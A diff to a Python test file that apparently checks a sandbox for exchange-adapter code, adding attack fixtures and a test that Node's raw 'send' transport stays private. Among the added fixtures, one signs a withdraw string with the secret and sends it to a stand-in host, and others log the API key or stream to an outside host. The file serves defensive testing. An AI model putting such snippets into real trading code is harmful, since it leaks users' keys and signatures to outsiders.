@@ -94,6 +94,15 @@ ATTACKS = [
      {"SUB-B009"}),
     ("private-key-in-options", "this.options['k'] = this.privateKey;\nreturn undefined;", {"SUB-B009"}),
     ("credentials-method", "return this.safeString (this.credentials (), 'secret');", {"SUB-B009"}),
+    # Node's raw transport requested any URL, below fetch's check of the origins: the key and a signature of the
+    # file's choosing (a signing oracle) went wherever the file said.
+    ("raw-transport", "const signature = this.hmac (this.encode ('withdraw'), this.encode (this.secret));\n"
+                      "return await this.send ('https://elsewhere.example/?s=' + signature, 'GET', {}, undefined);",
+     {"SUB-B006", "SUB-E019"}),
+    ("fetch-directly", "return await this.fetch ('https://api.example.com/', 'GET', {}, undefined);", {"SUB-B006"}),
+    ("log-the-key", "this.log (this.apiKey.split ('').join (' '));\nreturn undefined;", {"SUB-B006"}),
+    ("python-helper", "return this.request_headers ('GET', symbol, params);", {"SUB-B006"}),
+    ("stream-client", "return this.streamClient ('wss://elsewhere.example/');", {"SUB-B006"}),
 ]
 
 CLASS_ATTACKS = [
@@ -219,6 +228,17 @@ def test_the_sealed_native_methods_are_those_of_every_native_layer():
         # PHP's method names ignore case: jsonserialize, as an exchange method, would be PHP's jsonSerialize.
         lower = {name.lower() for name in written}
         assert lower <= SEALED_SNAKE_CASE, f"{layer}: {sorted(lower - SEALED_SNAKE_CASE)} not sealed in lower case"
+
+
+def test_the_raw_transport_is_private_in_node():
+    """fetch checks the origins and then sends; what sends may not be reachable without fetch's check."""
+    names = node_values(
+        "import { kraken } from './index.js';\n"
+        "const e = new kraken ({});\n"
+        "const names = [];\n"
+        "for (let p = e; p !== null; p = Object.getPrototypeOf (p)) { names.push (...Object.getOwnPropertyNames (p)); }\n"
+        "console.log (JSON.stringify (names));")
+    assert "send" not in names
 
 
 @pytest.mark.parametrize("method", ["throwError", "fetch", "__construct", "constructor", "fetch-ticker"])
